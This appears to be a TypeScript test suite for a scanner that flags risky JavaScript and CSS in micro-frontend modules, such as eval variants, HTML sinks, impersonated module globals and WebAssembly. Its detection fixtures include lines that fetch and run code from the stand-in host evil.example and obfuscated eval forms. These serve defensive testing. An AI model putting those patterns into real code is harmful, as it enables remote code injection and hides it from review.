import { findingsInScript } from './script'
import { findingsInStyle } from './style'

const found = (code: string): string[] => findingsInScript('a.js', code, 'mf_acme_timer').map(({ name, at }) => `${name} ${at}`)
const names = (code: string): string[] => [...new Set(findingsInScript('a.js', code, 'mf_acme_timer').map(({ name }) => name))]

test('[FD-21] what runs text as code is found, with line and column', () => {
  expect(found('let a\n  ;eval("1")')).toEqual(['eval 2:4'])
  for (const code of [
    '(0, eval)("1")',
    'const e = eval; e("1")',
    'window.eval("1")',
    'self["ev" + "al"]("1")',
    'globalThis[`eval`]("1")',
    'window?.eval("1")',
  ])
    expect([code, names(code)]).toEqual([code, ['eval']])
  for (const code of [
    'new Function("return 1")',
    'Function("a", "b")()',
    'window.Function("a")',
    '(() => {}).constructor("return 1")()',
    `x["constructor"](\`a\${b}\`)`,
  ])
    expect([code, names(code)]).toEqual([code, ['function-constructor']])
  for (const code of ['setTimeout("a()", 1)', 'window.setInterval("a" + b, 1)', `setTimeout(\`a\${b}\`)`])
    expect([code, names(code)]).toEqual([code, ['string-timer']])
  for (const code of ['document.write("<p>")', 'window.document["writeln"](a)'])
    expect([code, names(code)]).toEqual([code, ['document-write']])
})

test('[FD-21] what makes HTML of text is found', () => {
  for (const code of [
    'a.innerHTML = b',
    'a["inner" + "HTML"] += b',
    'a.outerHTML = b',
    'frame.srcdoc = b',
    'a.insertAdjacentHTML("beforeend", b)',
    'range.createContextualFragment(b)',
    'jsx("p", { dangerouslySetInnerHTML: { __html: b } })',
  ])
    expect([code, names(code)]).toEqual([code, ['html-sink']])
})

test('[FD-21] code from elsewhere is found', () => {
  for (const code of [
    'import("https://evil.example/x.js")',
    'new Worker("//evil.example/x")',
    'new SharedWorker("https://evil.example/x")',
    'importScripts("https://evil.example/x")',
    'new Worker("data:text/javascript,1")',
    's.src = "https://evil.example/a.js?b"',
    'fetch("http://evil.example/a.wasm")',
  ])
    expect([code, names(code)]).toEqual([code, ['foreign-code']])
  for (const code of ['import("./x.js")', 'import(a)', 'import a from "./a.js"'])
    expect([code, names(code)]).toEqual([code, ['native-import']])
  expect(findingsInStyle('a.css', 'a{}\nb{background:url( "https://evil.example/x.png")}')).toMatchObject([
    { name: 'foreign-style', at: '2:14' },
  ])
  expect(findingsInStyle('a.css', '@import "//evil.example/x.css";')).toHaveLength(1)
  expect(findingsInStyle('a.css', 'a{background:url(./x.png)}b{background:url(data:image/png;base64,AA)}')).toEqual([])
})

test('[FD-15] a module that takes another’s name is found at its own build’s code', () => {
  for (const code of [
    'var mf_report',
    'mf_report = {}',
    'window.mf_report = {}',
    'self["mf_report"] = {}',
    'globalThis["mf" + "_report"] = {}',
    'function mf_report() {}',
    'Object.defineProperty(window, "mf_report", { value: 1 })',
    '(self.webpackChunkmf_report = self.webpackChunkmf_report || []).push([])',
    'self["webpackChunkmf_report"].push([])',
    'webpackChunkmf_report.push([])',
  ])
    expect([code, names(code)]).toEqual([code, ['other-container']])
  expect(names('var mf_acme_timer; self.webpackChunkmf_acme_timer.push([]); window.mf_acme_timer = 1')).toEqual([])
})

test('[FD-21] WebAssembly is found, and what is no script', () => {
  for (const code of ['WebAssembly.compile(a)', 'window.WebAssembly', 'new WebAssembly.Module(a)'])
    expect([code, names(code)]).toEqual([code, ['webassembly']])
  expect(names('var = 1')).toEqual(['unparsable'])
  expect(names(`${'('.repeat(100_000)}`)).toEqual(['unparsable'])
})

test('[FD-21] what only looks like it is let through', () => {
  for (const code of [
    'a.eval = 1; ({ eval: 1 }); class A { eval() {} }',
    'setTimeout(() => a(), 1); setTimeout(a)',
    'x = a.innerHTML; stream.write("x")',
    'new this.constructor(a)',
    '"https://react.dev/errors/1"; "see https://example.org/docs"',
    'new Worker(url); new Worker(new URL("./x.js", base))',
  ])
    expect([code, names(code)]).toEqual([code, []])
})
